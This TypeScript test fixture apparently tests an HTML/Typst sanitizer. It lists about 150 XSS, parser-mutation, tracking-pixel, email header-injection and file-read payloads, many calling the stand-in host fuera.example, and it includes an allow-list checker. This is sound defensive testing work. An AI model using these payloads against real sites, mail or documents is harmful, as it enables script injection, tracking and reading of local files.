import { Parser } from 'htmlparser2';

/**
 * 150 script payloads (specification, quality) that somebody types into a text, or pastes unknowingly. Each tries to
 * run `alert` or to call `fuera.example` from the page, the PDF or the mail. One payload per entry; templates where
 * both kinds of quotes are needed.
 */
const groups = {
  scripts: [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//fuera.example/1.js></SCRIPT>',
    '<script type="module">import "https://fuera.example/2.js"</script>',
    '<script/x>alert(1)</script/y>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>script>alert(1)<</script>/script>',
    '<script>/*<p>*/alert(1)/*</p>*/</script>',
    '<script\u000b>alert(1)</script>',
    '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
    '<ſcript>alert(1)</ſcript>',
    '<script language="vbscript">MsgBox 1</script>',
    '<script type="text/template"><img src=x onerror=alert(1)></script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  handlers: [
    '<img src=x onerror=alert(1)>',
    '<img src="x" oNeRrOr="alert(1)">',
    '<img/src=x/onerror=alert(1)>',
    '<img src=x onerror\u000c=\u000calert(1)>',
    '<img src=x onerror="alert&#40;1&#41;">',
    '<img src=`x` onerror=`alert(1)`>',
    '<image src=x onerror=alert(1)>',
    '<p onclick="alert(1)">a</p>',
    '<p onpointerenter="alert(1)" tabindex=0 autofocus onfocus=alert(1)>a</p>',
    '<strong onmouseover=alert(1) style="position:fixed;inset:0">a</strong>',
    '<a href="https://fuera.example/a" onmouseover="alert(1)">a</a>',
    '<h2 contenteditable oninput=alert(1) onblur=alert(1)>a</h2>',
    '<li onanimationstart=alert(1) style="animation:x 1s">a</li>',
    '<body onload=alert(1)>',
    '<body onpageshow=alert(1) background="//fuera.example/b.png">',
    '<details open ontoggle=alert(1)><summary>a</summary></details>',
    '<marquee onstart=alert(1)>a</marquee>',
    '<video src=x onerror=alert(1)></video>',
    '<audio><source onerror=alert(1)></audio>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)><option>a</select>',
    '<blockquote onscrollend=alert(1) style="overflow:auto">a</blockquote>',
    '<div popover id=p onbeforetoggle=alert(1)>a</div><button popovertarget=p>b</button>',
  ],
  addresses: [
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href=" java\nscript:alert(1)">a</a>',
    '<a href="java\nscr\ript:alert(1)">a</a>',
    '<a href="\u0001javascript:alert(1)">a</a>',
    '<a href="\u00a0javascript:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="&#x6A&#x61vascript&colon;alert(1)">a</a>',
    '<a href="java&Tab;script&NewLine;:alert(1)">a</a>',
    '<a href="&#0000106&#0000097vascript:alert(1)">a</a>',
    '<a href="javascript://https://fuera.example/%0aalert(1)">a</a>',
    '<a href="https://fuera.example/" href="javascript:alert(1)">a</a>',
    '<a href="javascript:alert(1)" href="https://fuera.example/">a</a>',
    '<a HREF=javascript:alert(1)>a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="blob:https://fuera.example/1">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<a href="view-source:https://fuera.example">a</a>',
    '<a href="feed:javascript:alert(1)">a</a>',
    '<a href="//fuera.example">a</a>',
    '<a href="\\\\fuera.example\\x">a</a>',
    '<a href="/api/auth/logout" ping="https://fuera.example/ping">a</a>',
    '<a xlink:href="javascript:alert(1)">a</a>',
    '<a href="https://fuera.example/?&quot;onmouseover=alert(1)//">a</a>',
    `<a href='https://fuera.example/"onmouseover="alert(1)'>a</a>`,
    '<a href="mailto:a@fuera.example?body=&lt;script&gt;alert(1)&lt;/script&gt;">a</a>',
    '<a href="javas\u200bcript:alert(1)">a</a>',
    '<a href="ｊavascript:alert(1)">a</a>',
    '<a href="https://fuera.example" target="opener" rel="opener prefetch">a</a>',
    '<area href="javascript:alert(1)">',
    '<q cite="javascript:alert(1)">a</q><ins cite="//fuera.example">b</ins>',
  ],
  vector: [
    '<svg onload=alert(1)></svg>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:text/javascript,alert(1)" /></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>a</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>a</text></a></svg>',
    '<svg><use href="//fuera.example/a.svg#x"></use></svg>',
    '<svg><image href="https://fuera.example/b.png"></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<svg><style>*{background:url(//fuera.example/c.png)}</style></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
    '<math href="javascript:alert(1)"><mtext>a</mtext></math>',
    '<math><maction actiontype="statusline#https://fuera.example" xlink:href="javascript:alert(1)">a</maction></math>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  ],
  mutations: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<p>a<!--><img src=x onerror=alert(1)>--></p>',
    '<p>a<!--!><img src=x onerror=alert(1)>--!></p>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><?php echo "<img src=x onerror=alert(1)>" ?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "https://fuera.example/e">]>&e;',
    '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<template><img src=x onerror=alert(1)></template>',
    '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
    '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
    '<table><td><p title="</td></table><img src=x onerror=alert(1)>">a',
    '<select><style></select><img src=x onerror=alert(1)></style></select>',
    '<option><style></option></select><img src=x onerror=alert(1)></style></option>',
    '</p></div></main></body></html><script>alert(1)</script>',
    '<p title="a"onclick=alert(1)<p>b</p>',
    '<a href="https://fuera.example"><a href="javascript:alert(1)">a</a></a>',
    '<ul><li><a href="https://fuera.example/<img src=x onerror=alert(1)>">a</li></ul>',
    '<p/onclick=alert(1)//>a<br/onload=alert(1)>',
  ],
  embedded: [
    '<iframe src="https://fuera.example"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)">',
    '<frameset onload=alert(1)><frame src="//fuera.example"></frameset>',
    '<object data="//fuera.example/a.swf"><param name=src value=//fuera.example></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="//fuera.example/b.pdf">',
    '<applet code="X" codebase="//fuera.example"></applet>',
    '<base href="https://fuera.example/"><a href="x">a</a>',
    '<meta http-equiv=refresh content="0;url=https://fuera.example">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<portal src="https://fuera.example"></portal>',
    '<form action="https://fuera.example"><input name=a type=image src=//fuera.example/i.png><button>a</button></form>',
    '<button formaction="javascript:alert(1)">a</button>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<x-tarjeta onclick=alert(1)><slot name=a></slot></x-tarjeta>',
  ],
  pictures: [
    '<img src="https://fuera.example/pixel.gif?u=1" width=1 height=1>',
    '<img src=//fuera.example/p.png alt="">',
    '<img srcset="https://fuera.example/1x.png 1x, https://fuera.example/2x.png 2x">',
    '<picture><source srcset="//fuera.example/a.webp"><img></picture>',
    '<img src="cid:logo" lowsrc="//fuera.example/l.gif" dynsrc="//fuera.example/d.avi">',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    '<video poster="//fuera.example/p.jpg" src="//fuera.example/v.mp4" autoplay></video>',
    '<audio src="//fuera.example/a.mp3" autoplay></audio><bgsound src="//fuera.example/b.wav">',
    '<track src="//fuera.example/t.vtt"><img usemap="#x" longdesc="//fuera.example/d">',
  ],
  styles: [
    '<style>@import "//fuera.example/a.css";</style>',
    '<link rel=stylesheet href=//fuera.example/c.css>',
    '<link rel=preload as=image href=//fuera.example/d.png><link rel=dns-prefetch href=//fuera.example>',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    '<p style="background:url(//fuera.example/e.png)">a</p>',
    '<p style="background:u\\72l(//fuera.example/f.png)">a</p>',
    '<p style="width:expression(alert(1));behavior:url(//fuera.example/g.htc)">a</p>',
    '<ul style="list-style-image:url(//fuera.example/h.png)"><li>a</li></ul>',
    '<p style="position:fixed;inset:0;z-index:9999">a</p><table background="//fuera.example/i.png"><td>a</table>',
    '<p class="mantine-Modal-overlay" id="root">a</p>',
    '<font face="x" style="src:url(//fuera.example/j.woff)">a</font>',
  ],
  encodings: [
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '&#x3c;svg/onload=alert(1)&#x3e',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '＜script＞alert(1)＜/script＞',
    '\u202e<tpircs>)1(trela</tpircs>\u202c<img src=x onerror=alert(1)>',
    '<p>{{constructor.constructor("alert(1)")()}} \x24{alert(1)} #{alert(1)} <%= alert(1) %></p>',
    '{{cliente}}<script>alert("{{viaje}}")</script>{{&lt;img src=x onerror=alert(1)&gt;}}',
    '\'"--></style></script></title></textarea><svg onload=alert(1)>',
    '\r\nBcc: todos@fuera.example\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  ],
  typst: [
    '#import "@preview/fuera:1.0.0": *',
    '#include "/etc/passwd"',
    '#read("/etc/passwd")',
    '#image("https://fuera.example/a.png")',
    '#link("javascript:alert(1)")[a]',
    '#eval("read(\\"/etc/passwd\\")")',
    '#plugin("/tmp/fuera.wasm")',
    '#pdf.embed("/etc/passwd") #set document(title: "fuera")',
    '```typ #read("/etc/passwd")``` `#import`',
    '$ #read("/etc/passwd") $ \\ ] ) } #[ #{ panic("alert") }',
    '<p>#text[<strong>*b*</strong>] @ref &lt;label&gt; = x - y</p>',
    '") #read("/etc/passwd") //',
  ],
} as const;

/** These are never closed and swallow what follows, so they come last in a text. */
const unclosed = [
  '<script>alert(1)//',
  '<p "onclick=alert(1)" x=\'"onclick=alert(1)>a</p>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<style>body{background:url(https://fuera.example/b.png)}',
] as const;

const closed: readonly string[] = Object.values(groups).flat();

export const payloads: readonly string[] = [...closed, ...unclosed];

/** Precedes a payload in a text, to show that the payload was parsed by itself and not as a part of another. */
const mark = (index: number) => `<p>carga ${index}</p>`;

/** All payloads in few texts, each after its mark. Only some per text, because unclosed nesting adds up. */
export function payloadTexts(each = 12): string[] {
  const texts: string[] = [];
  closed.forEach((payload, index) => {
    const text = Math.floor(index / each);
    texts[text] = `${texts[text] ?? ''}${mark(index)}${payload}`;
  });
  unclosed.forEach((payload, index) => {
    texts[index] = `${texts[index] ?? ''}${mark(closed.length + index)}${payload}`;
  });
  return texts;
}

/** The elements of the allow-list. */
export const richTags = ['p', 'h2', 'h3', 'ul', 'ol', 'li', 'strong', 'em', 'u', 's', 'a', 'br', 'blockquote'];

/**
 * The parts of a text that a browser would run, fetch or follow wrongly: everything outside the allow-list (decisions
 * 5).
 */
export function trespasses(html: string): string[] {
  const seen: string[] = [];
  const parser = new Parser({
    onopentag: (name, { href, target, rel, ...others }) => {
      if (!richTags.includes(name)) seen.push(`<${name}>`);
      for (const attribute of Object.keys(others)) seen.push(`<${name} ${attribute}>`);
      if (name !== 'a' && [href, target, rel].some(value => value !== undefined)) seen.push(`<${name}> with a link`);
      if (href !== undefined && !/^(https?:\/\/|mailto:|tel:\+?\d)/i.test(href)) seen.push(href);
      if (target !== undefined && (target !== '_blank' || rel !== 'noopener')) seen.push(`${target} ${rel}`);
    },
    oncomment: comment => seen.push(`<!--${comment}-->`),
    onprocessinginstruction: name => seen.push(`<${name}`),
    oncdatastart: () => seen.push('<![CDATA['),
  });
  parser.end(html);
  return seen;
}
